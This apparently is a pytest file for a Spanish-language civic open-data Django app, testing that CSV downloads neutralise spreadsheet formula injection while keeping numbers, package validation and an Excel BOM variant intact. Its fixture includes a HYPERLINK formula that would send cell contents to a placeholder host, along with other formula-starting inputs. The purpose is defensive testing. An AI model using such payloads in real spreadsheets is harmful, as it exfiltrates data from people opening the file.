"""Downloads a spreadsheet opens: no cell runs as a formula (CSV injection), numbers stay
numbers, the data package still validates, and a variant with a byte-order mark for Excel."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from frictionless import Package, system

from urna.opendata.writers import collect, csv_chunks

pytestmark = pytest.mark.django_db

SLUG = "desarrollo-rural"
URL = f"/opendata/ejercicios/{SLUG}/aportes.csv"
# What a citizen may type (or a campaign paste) to make a spreadsheet run something.
FORMULAS = [
    '=HYPERLINK("https://example.invalid/?d="&A1;"Clic")',
    "+1 de acuerdo con el artículo",
    "-Sí al proyecto, con cambios",
    "@SUMA(1;2)",
    "\tCon tabulador",
    "\rCon retorno",
]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def formulas(published):
    from urna.exercises.models import Contribution

    first = Contribution.objects.filter(exercise=published).order_by("id").first()
    for n, text in enumerate(FORMULAS):
        Contribution.objects.create(
            exercise=published,
            kind=Contribution.Kind.OPINION,
            channel=Contribution.Channel.WEB,
            text=text,
            receipt=f"UCFORMULA{n:04d}",
            idempotency_key=f"formula-{n}",
            created_at=first.created_at + timedelta(minutes=n),
        )
    return published


def _texts(raw: bytes) -> list[str]:
    rows = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    return [row["texto"] for row in rows]


def test_no_text_cell_of_the_open_data_csv_starts_a_formula(client, formulas):
    texts = _texts(_body(client.get(URL)))

    assert [t for t in texts if t[:1] in "=+-@\t\r" and t] == []
    assert "'" + FORMULAS[0] in texts
    assert "'-Sí al proyecto, con cambios" in texts
    assert "'\tCon tabulador" in texts


def test_json_keeps_the_texts_as_written(client, formulas):
    rows = json.loads(_body(client.get(f"/opendata/ejercicios/{SLUG}/aportes.json")))

    assert FORMULAS[0] in [row["texto"] for row in rows]


def test_every_csv_of_the_zip_is_protected_and_the_package_still_validates(
    client, formulas, tmp_path
):
    archive = zipfile.ZipFile(io.BytesIO(_body(client.get(f"/opendata/ejercicios/{SLUG}.zip"))))
    archive.extractall(tmp_path)

    assert "'" + FORMULAS[0] in _texts((tmp_path / "data" / "aportes.csv").read_bytes())
    with system.use_context(trusted=True):
        report = Package(str(tmp_path / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_only_text_columns_are_protected_numbers_stay_numbers():
    header = ["n", "x", "texto", "nada"]
    raw = collect(csv_chunks(header, [(-5, -1.5, "-5", None)], text=[2, 3]))

    assert raw == b"n,x,texto,nada\r\n-5,-1.5,'-5,\r\n"


def test_the_helper_neutralises_only_text_that_starts_a_formula():
    from urna.core.spreadsheets import formula_safe

    assert [formula_safe(v) for v in ["=1+1", "+57", "-", "@a", "\t", "\r", "a=1", ""]] == [
        "'=1+1",
        "'+57",
        "'-",
        "'@a",
        "'\t",
        "'\r",
        "a=1",
        "",
    ]
    assert [formula_safe(v) for v in [-3, -0.5, None, True]] == [-3, -0.5, None, True]


def test_the_default_csv_has_no_byte_order_mark_the_excel_one_has(client, formulas):
    plain = client.get(URL)
    excel = client.get(URL + "?excel=1")

    plain_body, excel_body = _body(plain), _body(excel)
    assert not plain_body.startswith(b"\xef\xbb\xbf")
    assert excel_body == b"\xef\xbb\xbf" + plain_body
    assert excel["Content-Type"] == "text/csv; charset=utf-8"
    assert excel["Content-Disposition"] == plain["Content-Disposition"]
    # Each variant revalidates with its own ETag: a cache never hands one for the other.
    assert plain["ETag"] != excel["ETag"]
    assert client.get(URL + "?excel=1", HTTP_IF_NONE_MATCH=excel["ETag"]).status_code == 304
    assert client.get(URL, HTTP_IF_NONE_MATCH=excel["ETag"]).status_code == 200


def test_the_dataset_page_offers_the_excel_variant(client, formulas):
    page = client.get(f"/datos/ejercicios/{SLUG}/").content.decode()

    assert f'href="{URL}?excel=1"' in page
    assert "Excel" in page
